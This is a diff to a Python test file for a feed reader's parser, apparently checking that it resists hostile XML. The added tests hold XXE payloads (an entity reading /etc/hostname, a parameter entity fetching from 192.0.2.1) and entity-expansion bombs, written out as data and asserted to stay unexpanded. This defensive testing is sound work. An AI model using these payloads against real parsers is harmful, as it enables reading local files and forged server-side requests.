@@ -237,8 +237,9 @@ def test_an_endless_feed_is_cut() -> None:
         (b"<?xml version='1.0'?><!-- x --><html xmlns='http://www.w3.org/1999/xhtml'></html>", "HTML where a feed should be"),
         (b"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'></urlset>", "sitemap where a feed"),
         (b"<catalog><book/></catalog>", "neither RSS nor Atom"),
-        (b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><rss><channel><title>&c;</title></channel></rss>', "entities"),
-        ('<!DOCTYPE a [<!ENTITY b "b">]><rss/>'.encode("utf-16"), "entities"),
+        (b'<!DOCTYPE a [<!ENTITY b "b"><rss version="2.0"><channel/></rss>', "entities"),
+        (b'<!DOCTYPE a [<!ENTITY b "%s">]><rss version="2.0">%s</rss>' % (b"b" * 16, b"&b;" * 1000), "entities"),
+        (b'<!DOCTYPE a [<!ENTITY b "b">]><!DOCTYPE a [<!ENTITY c "c">]><rss version="2.0"/>', "entities"),
         (b'{"items": []}', "not a JSON Feed"),
         (b'{"items": ', "JSON that cannot be read"),
         (b"[" * 100_000, "JSON that cannot be read"),
@@ -250,6 +251,21 @@ def test_what_is_no_feed_is_refused_in_words(body: bytes, message: str) -> None:
     with pytest.raises(ListingError, match=message) as refused:
         read_feed(body, URL)
     assert URL in str(refused.value)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "euc-kr"])
+def test_a_feed_that_declares_entities_is_read(encoding: str) -> None:
+    declared = (
+        '<!DOCTYPE rss [<!-- ] > --><!ENTITY nbsp "&#160;"><!ENTITY desk "북]한"><!ENTITY raquo "&#38;#187;">'
+        '<!ENTITY far SYSTEM "file:///etc/hostname"><!ENTITY bomb "&desk;&desk;">'
+        '<!ENTITY % set SYSTEM "http://192.0.2.1/x"> %set;]>'
+    )
+    title = "A&nbsp;tanker &desk; &eacute;&raquo;&far;&bomb; &amp;amp; <![CDATA[turns&nbsp;back]]>"
+    item = f"<item><title>{title}</title><link>https://example.com/1?a=1&amp;b=2</link></item>"
+    text = f'<?xml version="1.0" encoding="{encoding}"?>{declared}<rss version="2.0"><channel>{item}</channel></rss>'
+    [link] = read_feed(text.encode(encoding), URL).links
+    assert link.url == "https://example.com/1?a=1&b=2"
+    assert link.hints.title == "A tanker 북]한 é» & turns back"
 
 
 @settings(max_examples=150, deadline=None)
